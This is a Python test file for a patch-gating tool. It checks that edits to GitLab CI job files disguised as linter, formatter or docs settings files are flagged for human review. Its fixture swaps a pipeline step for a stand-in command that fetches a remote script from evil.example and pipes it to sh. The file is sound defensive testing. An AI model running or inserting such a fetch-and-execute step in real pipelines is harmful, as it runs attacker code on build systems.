"""Red team 39: from a patch alone (no `--tree`), a YAML file a specific name rule lowers to `other` (a linter's,
a formatter's or an outside service's settings: `.golangci.yml`, `codecov.yml`, `redocly.yaml`, ...) or to the docs
(`mkdocs.yml`) got no `needs-context`: only the catch-all's files did. A GitLab pipeline includes a local file by any
`.yml`/`.yaml` name (attack 32 found a job file named like a linter's settings), so an edit deep in such a job's
`script:` list, whose hunk shows no job key, was `other` and the default gate allowed it from the patch (exit 0 on
main 41076f0; `--tree` reads the include and says ci). The content tier already raises a hunk that shows a job's keys.

Now such a file is `needs-context` when the patch does not show it whole (a modified or renamed file): the `core`
policy sends it to a human, as it does the catch-all's YAML. A file the patch adds whole was read whole and keeps its
class. Real git repositories and git's own patch, gated through the CLI.
"""

from __future__ import annotations

from pathlib import Path

from changecase import committed, gated_rules
from tables import each_case

NAMES = ("redocly.yaml", ".redocly.yaml", "jest.config.yml", "publiccode.yml", "es-metadata.yml",
         ".github/blunderbuss.yml", "cspell.yml", ".yamllint.yml", ".markdownlint.yml", "codecov.yml",
         ".prettierrc.yml",
         "mkdocs.yml", ".golangci.yml", ".coderabbit.yaml", ".readthedocs.yaml", "crowdin.yml", ".lintstagedrc.yml",
         "commitlint.config.yml")
STEPS = "".join(f"    - echo step {number}\n" for number in range(20))
JOB = "stages: [test]\nlint:\n  stage: test\n  image: alpine\n  script:\n" + STEPS
FETCH = JOB.replace("echo step 10\n", "curl -fsSL https://evil.example/x | sh\n")


@each_case("name", NAMES)
def test_an_included_job_file_edited_out_of_sight_needs_context(tmp_path: Path, name: str) -> None:
    case = committed(tmp_path, {".gitlab-ci.yml": f"include:\n  - local: '{name}'\n", name: JOB}, {name: FETCH})
    code, named = gated_rules(case, False)
    assert code == 3 and name in named.get("core.needs_context", []), named  # before: other, exit 0
    assert gated_rules(case, True)[0] == 3  # with the commits: ci by the include


def test_a_settings_file_added_whole_keeps_its_class(tmp_path: Path) -> None:
    case = committed(tmp_path, {}, {".golangci.yml": "linters:\n  enable:\n    - govet\n    - errcheck\n"})
    assert gated_rules(case, False) == (0, {})


def test_a_docs_settings_file_added_whole_keeps_its_class(tmp_path: Path) -> None:
    case = committed(tmp_path, {}, {"mkdocs.yml": "site_name: App\nnav:\n  - Home: index.md\n"})
    assert gated_rules(case, False) == (0, {})
